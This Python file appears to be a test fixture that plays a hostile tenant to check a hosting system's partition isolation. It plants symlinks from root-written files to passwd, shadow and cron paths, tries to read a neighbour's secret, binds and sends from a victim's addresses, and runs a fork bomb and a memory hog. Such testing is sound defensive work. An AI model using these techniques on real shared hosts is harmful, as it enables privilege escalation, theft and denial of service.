"""A hostile tenant's instance: run as its partition's user, by its instance buildout ("deploy")
and by supervisord ("service NAME"). Every outcome it can observe is written to results/ in its
partition, for the test to read; the test also checks, from outside, what really happened."""

import json
import os
import socket
import subprocess
import sys
import time

HERE = os.path.abspath(__file__)


def instance():
    with open(".slap-instance.json") as file:
        return json.load(file)


def record(name, value):
    os.makedirs("results", exist_ok=True)
    with open(os.path.join("results", name), "w") as file:
        file.write(str(value))


def plant(name, target):
    """Puts a link at `name`, whatever is there: root is expected to replace it, not follow it."""
    if os.path.isdir(name) and not os.path.islink(name):
        subprocess.run(["rm", "-rf", name], check=True)
    elif os.path.lexists(name):
        os.unlink(name)
    os.symlink(target, name)


def program(folder, name):
    os.makedirs(f"etc/{folder}", exist_ok=True)
    path = os.path.join(f"etc/{folder}", name)
    with open(path, "w") as file:
        file.write(f"#!/bin/sh\nexec {sys.executable} {HERE} service {name}\n")
    os.chmod(path, 0o755)


def deploy():
    data = instance()
    parameters = data["parameters"]
    reference = data["partitionId"]
    targets = parameters["targets"]
    phase = parameters["phase"]
    if phase == "links":
        # Everything root wrote or will write here, pointed at root's own files.
        plant(".slap-instance.json", f"{targets}/passwd")
        plant("buildout.cfg", f"{targets}/shadow")
        plant(".timestamp", f"{targets}/cron")
        plant(f".slapgrid-{reference}-error.log", f"{targets}/error-log")
        plant(".slapgrid", targets)
        # A neighbour's secret, for root to read and send to the master as connection parameters.
        plant(".slap-publish.json", parameters["secret"])
        return
    # phase "services": a clean publish file, links where supervisord and the watchdog write.
    if os.path.lexists(".slap-publish.json"):
        os.unlink(".slap-publish.json")
    with open(".slap-publish.json", "w") as file:
        json.dump({"phase": phase}, file)
    # Only exit-once is watched (etc/service): its exit makes the watchdog bang, once.
    program("service", "exit-once")
    for name in ["detach", "listen", "send", "read", "bomb", "hog"]:
        program("run", name)
    for name in ["exit-once", "detach", "listen", "send", "read", "bomb", "hog"]:
        plant(f".{reference}_{name}.log", f"/etc/cron.d/slap-evil-{name}")
    plant(".slapos_latest_bang_timestamp", f"{targets}/bang")


def exit_once():
    # A watched service that exits once: the watchdog bangs and records the bang as root.
    if os.path.exists("results/exited"):
        time.sleep(1_000_000)
    record("exited", "yes")
    sys.exit(1)


def detach():
    # Processes that leave supervisord's process group and session: they must die at destruction.
    subprocess.Popen(["setsid", "sleep", "600"], start_new_session=True)
    subprocess.Popen(["sh", "-c", "(sleep 601 &) &"])
    record("detached", "yes")
    time.sleep(1_000_000)


def listen():
    # Serves "STOLEN" on the neighbour's addresses: nobody may receive it.
    parameters = instance()["parameters"]
    outcomes = {}
    servers = []
    for family, address in [(socket.AF_INET, parameters["victim-ipv4"]), (socket.AF_INET6, parameters["victim-ipv6"])]:
        server = socket.socket(family, socket.SOCK_STREAM)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            server.bind((address, 9999))
            server.listen(8)
            servers.append(server)
            outcomes[address] = "listening"
        except OSError as error:
            outcomes[address] = f"bind failed: {error}"
    record("listen", json.dumps(outcomes))
    while True:
        for server in servers:
            server.settimeout(0.2)
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            try:
                connection.sendall(b"STOLEN\n")
            except OSError:
                pass
            connection.close()


def send():
    # Connects from the neighbour's addresses to a receiver the test runs: nothing may arrive.
    parameters = instance()["parameters"]
    outcomes = {}
    for family, source, destination in [
        (socket.AF_INET, parameters["victim-ipv4"], parameters["receiver-ipv4"]),
        (socket.AF_INET6, parameters["victim-ipv6"], parameters["receiver-ipv6"]),
    ]:
        client = socket.socket(family, socket.SOCK_STREAM)
        client.settimeout(3)
        try:
            client.bind((source, 0))
            client.connect((destination, int(parameters["receiver-port"])))
            client.sendall(f"FROM-ATTACKER via {source}\n".encode())
            outcomes[source] = "sent"
        except OSError as error:
            outcomes[source] = f"blocked: {error}"
        finally:
            client.close()
    record("send", json.dumps(outcomes))
    time.sleep(1_000_000)


def read():
    parameters = instance()["parameters"]
    try:
        with open(parameters["secret"]) as file:
            record("read", "read: " + file.read())
    except OSError as error:
        record("read", f"denied: {error.strerror}")
    time.sleep(1_000_000)


def bomb():
    # A fork bomb, bounded so that a node without limits survives it: as many sleeping children
    # as the node lets it have, up to 1500. It waits for the other attacks to be under way: once
    # it holds every process the partition may have, nothing more of the partition can start.
    for _ in range(600):
        if all(os.path.exists(f"results/{name}") for name in ["detached", "listen", "send", "read"]):
            break
        time.sleep(0.1)
    children = 0
    refused = 0
    for _ in range(1500):
        try:
            pid = os.fork()
        except OSError:
            refused += 1
            if refused > 50:
                break
            continue
        if pid == 0:
            time.sleep(300)
            os._exit(0)
        children += 1
    record("bomb", json.dumps({"children": children, "refused": refused}))
    time.sleep(1_000_000)


def hog():
    # 2 GiB, every page written: a partition limited below that is killed before it has them.
    record("hog", "allocating")
    block = b"x" * (2 * 1024 * 1024 * 1024)
    record("hog", f"allocated {len(block)}")
    time.sleep(1_000_000)


if __name__ == "__main__":
    if sys.argv[1] == "deploy":
        deploy()
    else:
        {"exit-once": exit_once, "detach": detach, "listen": listen, "send": send, "read": read, "bomb": bomb, "hog": hog}[
            sys.argv[2]
        ]()
